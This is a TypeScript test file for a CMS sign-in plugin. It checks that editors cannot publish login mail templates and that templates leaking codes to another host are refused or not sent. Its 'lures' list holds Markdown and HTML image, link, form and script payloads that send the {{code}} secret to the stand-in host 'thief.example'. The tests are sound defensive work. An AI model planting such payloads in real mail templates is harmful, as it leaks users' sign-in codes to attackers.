import type { User } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestHost, type TestHost } from '#core/testing'
import authMfa from '../../plugins/auth-mfa/server/index.ts'

/**
 * An editor wants to be admin. They may write content, and the mails of the sign-in are content: a picture or a link that carries
 * `{{code}}` to a host of their own tells them the code as soon as the admin's mail program shows the mail, and `{{link}}` or the consent
 * mail's token the same. It must fail twice: an editor cannot publish a mail, and the host sends no mail with a foreign picture, link or
 * address beside a secret, no matter who has published it.
 */

interface Variant {
  readonly key: string
  subject: string
  text: string
  markdown: string
}

const evil = 'thief.example'
/** Ways in Markdown, HTML and mail programs to contact another host. */
const lures: readonly [name: string, field: 'text' | 'markdown' | 'subject', words: string][] = [
  ['a picture', 'markdown', `![](https://${evil}/{{code}}.png)`],
  ['a picture by reference', 'markdown', `![x][pic]\n\n[pic]: https://${evil}/{{code}}`],
  ['a link', 'markdown', `[Sign in](https://${evil}/?c={{code}})`],
  ['a link without a scheme', 'markdown', `[Sign in](//${evil}/{{code}})`],
  ['a link by reference', 'markdown', `[Sign in][1]\n\n[1]: <https://${evil}/{{code}}>`],
  ['an autolink', 'markdown', `<https://${evil}/{{code}}>`],
  ['a bare address', 'markdown', `https://${evil}/{{code}}`],
  ['a bare domain', 'markdown', `www.${evil}/{{code}}`],
  ['an e-mail address', 'markdown', `Forward this mail to help@${evil}.`],
  ['HTML', 'markdown', `<img src="https://${evil}/{{code}}">`],
  ['HTML over lines', 'markdown', `<img\nsrc=x\nstyle="background:url(//${evil}/{{code}})">`],
  ['a style', 'markdown', '<style>p{display:none}</style>'],
  ['a form', 'markdown', `<form action="https://${evil}"><input name=c value="{{code}}"></form>`],
  ['a script address', 'markdown', '[Sign in](javascript:alert(1))'],
  ['a data address', 'markdown', '![x](data:image/png;base64,AAAA)'],
  ['a link to the code', 'markdown', '[Sign in]({{code}})'],
  ['an address in the text', 'text', `Sign in at https://${evil}/{{code}}`],
  ['a domain in the text', 'text', `Sign in at ${evil}/{{code}}`],
  ['a domain that the code completes', 'text', `Sign in at {{code}}.${evil}`],
  ['a host by number', 'text', 'Sign in at 10.1.2.3/{{code}}'],
  ['the code in the subject', 'subject', '{{code}} is your code'],
]

let host: TestHost
let id = ''
let original: readonly Variant[] = []
let placeholders: readonly string[]
const people: Record<string, { readonly user: User; readonly overrideAccess: false }> = {}
const forbidden = { status: 403 }

beforeAll(async () => {
  host = await createTestHost({ plugins: [authMfa] })
  for (const role of ['editor', 'admin'] as const) {
    const { userId } = await host.signIn(`${role}@example.test`, { role })
    const user = { ...(await host.payload.findByID({ collection: 'users', id: userId })), collection: 'users' as const }
    people[role] = { user, overrideAccess: false }
  }
  const { docs } = await host.payload.find({ collection: 'pages', where: { slug: { equals: 'signin-mail' } } })
  id = String(docs[0]?.id)
  const data = docs[0]?.data as unknown as { variants: Variant[]; placeholders: readonly string[] } | undefined
  original = data?.variants ?? []
  placeholders = data?.placeholders ?? []
})
afterAll(() => host.close())

const withChange = (key: string, change: Partial<Variant>) => ({
  kind: 'mail',
  placeholders,
  variants: original.map((variant) => (variant.key === key ? { ...variant, ...change } : variant)),
})
const publish = (role: string, data: object, locale = 'en', more: object = {}) =>
  host.payload.update({
    collection: 'pages',
    id,
    locale: locale as never,
    data: { title: 'Mails', data, _status: 'published', ...more } as never,
    ...people[role],
  } as never)
const mailTo = async (email: string, method = 'otp', language = 'en') => {
  host.clock.advance({ minutes: 15 })
  const { status } = await host.stranger().post('/api/auth-request', { email, method }, { 'accept-language': language })
  expect(status).toBe(200)
  return host.mails.at(-1)
}

describe('RV2: an editor', () => {
  it('RV2: publishes no mail, in no language, and may leave a draft', async () => {
    const fine = withChange('code', { text: 'Your code: {{code}}', markdown: 'Your code: **{{code}}**' })
    for (const locale of ['en', 'de']) await expect(publish('editor', fine, locale)).rejects.toMatchObject(forbidden)
    const draft = { collection: 'pages', id, draft: true, data: { data: fine, _status: 'draft' }, ...people.editor } as never
    await host.payload.update(draft)
    expect((await mailTo('a@example.test'))?.text).toContain('Only the newest code works.')
  })

  it('RV2: gets round it neither by another status, another kind, a version, nor another page under the name', async () => {
    const evilMail = withChange('code', { markdown: `![](https://${evil}/{{code}})` })
    const asDraft = { collection: 'pages', id, draft: true, data: { data: evilMail, _status: 'published' }, ...people.editor } as never
    await expect(host.payload.update(asDraft)).rejects.toMatchObject(forbidden)
    await expect(publish('editor', { ...evilMail, kind: 'page' })).rejects.toMatchObject(forbidden)
    const { docs } = await host.payload.findVersions({ collection: 'pages', where: { parent: { equals: id } }, ...people.editor })
    const published = docs.find(({ version }) => version._status === 'published')
    // A version is restored as a draft, for the review of somebody who may publish mails.
    const restored = await host.payload.restoreVersion({ collection: 'pages', id: String(published?.id), ...people.editor })
    expect(restored._status).toBe('draft')
    const where = { slug: { equals: 'signin-mail' } }
    const many = { collection: 'pages', where, data: { data: evilMail, _status: 'published' }, ...people.editor } as never
    expect(await host.payload.update(many)).toMatchObject({ docs: [], errors: [expect.anything()] })
    const page = { collection: 'pages', data: { title: 'x', slug: 'consent-mail', data: evilMail, _status: 'draft' }, ...people.editor }
    await expect(host.payload.create(page as never)).rejects.toBeTruthy()
    expect((await mailTo('b@example.test'))?.html).not.toContain(evil)
  })

  it('RV2: hides nothing in a translation that an admin’s next publish would make public', async () => {
    const draft = {
      collection: 'pages',
      id,
      draft: true,
      locale: 'de',
      data: { title: 'Mails', data: withChange('code', { markdown: `{{code}} ![](https://${evil}/{{code}})` }), _status: 'draft' },
      ...people.editor,
    } as never
    await host.payload.update(draft)
    await expect(publish('admin', withChange('code', {}))).rejects.toMatchObject({ name: 'ValidationError' })
    expect((await mailTo('c@example.test', 'otp', 'de'))?.html).not.toContain(evil)
    const clean = { collection: 'pages', id, draft: true, locale: 'de', data: { data: null, _status: 'draft' }, ...people.editor } as never
    await host.payload.update(clean)
  })
})

describe('RV2: whoever publishes', () => {
  it.each(lures)('RV2: %s beside a code is refused', async (_, field, words) => {
    const keeping = field === 'subject' ? words : `{{code}}\n\n${words}`
    await expect(publish('admin', withChange('code', { [field]: keeping }))).rejects.toMatchObject({ name: 'ValidationError' })
  })

  it.each(lures)('RV2: %s that stands in the database all the same is not sent', async (_, field, words) => {
    const keeping = field === 'subject' ? words : `{{code}}\n\n${words}`
    // Written without checks, as an older release may have left it.
    const context = { isSeeding: true }
    const data = { data: withChange('code', { [field]: keeping }), _status: 'published' }
    await host.payload.update({ collection: 'pages', id, data, context } as never)
    const mail = await mailTo('d@example.test')
    expect(mail?.subject).toBe('Your Soloflight sign-in code')
    expect(mail?.text).toContain('Only the newest code works.')
    expect(`${mail?.text}${mail?.html}`).not.toContain(evil)
  })

  it('RV2: an admin publishes other words, and they are sent', async () => {
    await publish(
      'admin',
      withChange('link', { subject: 'Come in', text: 'Here:\n{{link}}', markdown: '## Hello\n\n- [Come in]({{link}})' }),
    )
    const mail = await mailTo('e@example.test', 'link')
    expect(mail).toMatchObject({ subject: 'Come in', html: expect.stringMatching(/<a href="http:\/\/127[^"]+#token=/) })
  })
})
